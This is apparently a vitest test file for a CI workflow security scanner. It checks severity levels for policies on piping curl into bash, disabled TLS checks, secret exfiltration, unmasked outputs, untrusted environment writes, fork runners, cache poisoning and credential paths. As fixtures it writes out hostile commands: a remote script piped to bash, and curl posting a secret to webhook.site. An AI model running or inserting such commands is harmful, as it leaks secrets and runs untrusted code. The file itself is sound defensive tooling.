import { describe, expect, it } from "vitest";
import { cachePoisoningRelease } from "../../src/policies/artefact/cache-poisoning-release.ts";
import { passwordFlag } from "../../src/policies/cmdline/password-flag.ts";
import { deployFromAnyBranch } from "../../src/policies/environment/deploy-from-any-branch.ts";
import { environmentKind } from "../../src/policies/environments.ts";
import { tlsVerifyOffSecretFetch } from "../../src/policies/failopen/tls-verify-off-secret-fetch.ts";
import { secretExfil } from "../../src/policies/logs/secret-exfil.ts";
import { unmaskedOutput } from "../../src/policies/logs/unmasked-output.ts";
import { holdsCredentials, takesEverything } from "../../src/policies/sensitive-paths.ts";
import { curlPipeShellWithSecret } from "../../src/policies/unpinned/curl-pipe-shell-with-secret.ts";
import { githubEnvWriteUntrusted } from "../../src/policies/untrusted/github-env-write-untrusted.ts";
import { selfHostedFork } from "../../src/policies/untrusted/self-hosted-fork.ts";
import { shownMatches } from "../support/policy-matches.ts";

/** A workflow with one job: its script, the variables of the step, and more keys of the job. */
const workflow = (run: string, env = "{}", on = "push", job = ""): string =>
  `on: ${on}\njobs:\n  a:\n    runs-on: x\n${job}    steps:\n      - env: ${env}\n        run: |\n${indent(run)}`;

const indent = (text: string): string => text.replaceAll(/^/gm, "          ");

const SECRET = "{ T: '${{ secrets.T }}' }";
const TOKEN = "{ T: '${{ github.token }}' }";
const WRITES = "    permissions: { contents: write }\n";
const PIPED = "curl -s https://example.com/x.sh | bash";

describe("severity by what is at stake", () => {
  it.each([
    [curlPipeShellWithSecret, workflow(PIPED), [`low ${PIPED}`]],
    [curlPipeShellWithSecret, workflow(PIPED, TOKEN), [`low ${PIPED}`]],
    [curlPipeShellWithSecret, workflow(PIPED, SECRET), [`high ${PIPED}`]],
    [curlPipeShellWithSecret, workflow(PIPED, "{}", "push", WRITES), [`high ${PIPED}`]],
    [tlsVerifyOffSecretFetch, workflow("curl -k https://example.com"), ["low -k"]],
    [tlsVerifyOffSecretFetch, workflow("curl -k https://example.com", SECRET), ["high -k"]],
    [tlsVerifyOffSecretFetch, workflow("vault kv get -tls-skip-verify -field=a b"), ["high -tls-skip-verify"]],
    [tlsVerifyOffSecretFetch, workflow("curl -o k https://example.com; tar -k x", SECRET), []],
    [selfHostedFork, workflow("make", "{}", "pull_request").replace("x\n", "self-hosted\n"), ["low self-hosted"]],
    [selfHostedFork, workflow("make", SECRET, "pull_request").replace("x\n", "self-hosted\n"), ["high self-hosted"]],
    [selfHostedFork, workflow("make", SECRET).replace("x\n", "self-hosted\n"), []],
    [passwordFlag, workflow('docker login -p "$T" x', SECRET), ['high "$T"']],
    [passwordFlag, workflow('tool --token "$T"', SECRET), ['medium "$T"']],
    [passwordFlag, workflow('tool --token "$T"', TOKEN), ['low "$T"']],
    [passwordFlag, workflow('tool --name "$T"', SECRET), []],
    [unmaskedOutput, workflow('echo "a=$T" >> $GITHUB_OUTPUT', SECRET), ["medium $T"]],
    [unmaskedOutput, workflow('echo "a=$(echo $T | rev)" >> $GITHUB_OUTPUT', SECRET), ["high $T"]],
    [
      secretExfil,
      workflow('curl -d "$T" https://a.webhook.site', SECRET),
      ['critical curl -d "$T" https://a.webhook.site'],
    ],
    [secretExfil, workflow('curl -d "$T" https://a.webhook.site', TOKEN), ['high curl -d "$T" https://a.webhook.site']],
    [secretExfil, workflow('curl -d "$T" https://api.example.com', SECRET), []],
  ])("of %#", (policy, text, expected) => {
    expect(shownMatches(policy, text)).toEqual(expected);
  });

  const written = 'echo "T=$TITLE" >> $GITHUB_ENV';
  const title = "{ TITLE: '${{ github.event.pull_request.title }}' }";

  it.each([
    ["pull_request_target", "", ["medium $GITHUB_ENV"]],
    ["pull_request_target", WRITES, ["high $GITHUB_ENV"]],
    ["pull_request_target", "    permissions: { contents: read }\n", ["low $GITHUB_ENV"]],
    ["pull_request", WRITES, ["low $GITHUB_ENV"]],
    ["push", WRITES, []],
    ["pull_request_target", `${WRITES}    if: "!github.event.pull_request.head.repo.fork"\n`, []],
  ])("of a title in the runner's environment on %s with %s", (on, job, expected) => {
    expect(shownMatches(githubEnvWriteUntrusted, workflow(written, title, on, job))).toEqual(expected);
  });

  it.each([
    ["push", "    environment: production\n", ["medium production"]],
    ["push", "    environment: staging\n", []],
    ["{ push: { branches: [main] } }", "    environment: production\n", []],
  ])("of production from any branch: %s %s", (on, job, expected) => {
    expect(shownMatches(deployFromAnyBranch, workflow("x", SECRET, on, job))).toEqual(expected);
  });

  it.each([
    ["release", "actions/setup-go@v5", "{}", ["low actions/setup-go@v5"]],
    ["release", "actions/setup-go@v5", "{ cache: false }", []],
    ["release", "actions/setup-node@v5", "{ cache: npm }", ["low actions/setup-node@v5"]],
    ["release", "docker/setup-buildx-action@v3", "{}", []],
    ["push", "actions/setup-go@v5", "{}", []],
    ["{ push: { tags: ['v*'] } }", "actions/cache@v4", "{ path: a, key: b }", ["low actions/cache@v4"]],
    ["{ push: { tags: ['v*'] }, pull_request: {} }", "actions/cache@v4", "{ path: a, key: b }", []],
  ])("of a cache on %s by %s %s", (on, uses, inputs, expected) => {
    const text = `on: ${on}\njobs:\n  a:\n    runs-on: x\n    permissions: {}\n    steps:\n      - uses: ${uses}\n        with: ${inputs}\n      - run: make\n`;
    expect(shownMatches(cachePoisoningRelease, text)).toEqual(expected);
  });
});

describe("names of environments", () => {
  it.each([
    ["PROD_TOKEN", "production"],
    ["production", "production"],
    ["deployProd", "production"],
    ["live-eu", "production"],
    ["STAGING_KEY", "other"],
    ["NONPROD_KEY", "other"],
    ["NON_PROD_KEY", "other"],
    ["preprod", "other"],
    ["review/$CI_COMMIT_REF_SLUG", "other"],
    ["PRODUCT_KEY", undefined],
    ["REPRODUCE", undefined],
    ["DELIVERY", undefined],
    ["prod-to-staging", undefined],
    ["DEVICE_KEY", undefined],
  ])("%s is %s", (name, kind) => {
    expect(environmentKind(name)).toBe(kind);
  });
});

describe("paths", () => {
  it.each([
    ["~/.docker", true],
    ["${{ github.workspace }}/.env", true],
    ["$CI_PROJECT_DIR/deploy/.env.production", true],
    ["config/id_ed25519", true],
    ["infra/terraform.tfstate", true],
    ["certs/server.key", true],
    [".env.example", false],
    ["id_ed25519.pub", false],
    ["ca.pem", false],
    ["dist/", false],
    ["node_modules/.cache", false],
    ["src/environment.ts", false],
  ])("%s hold credentials: %s", (path, expected) => {
    expect(holdsCredentials(path)).toBe(expected);
  });

  it.each([
    [".", true],
    ["./", true],
    ["**/*", true],
    ["*", true],
    ["$CI_PROJECT_DIR", true],
    ["${{ github.workspace }}/**", true],
    ["dist/**", false],
    ["*.log", false],
    ["/tmp/x", false],
    ["", false],
  ])("%s take everything: %s", (path, expected) => {
    expect(takesEverything(path)).toBe(expected);
  });
});
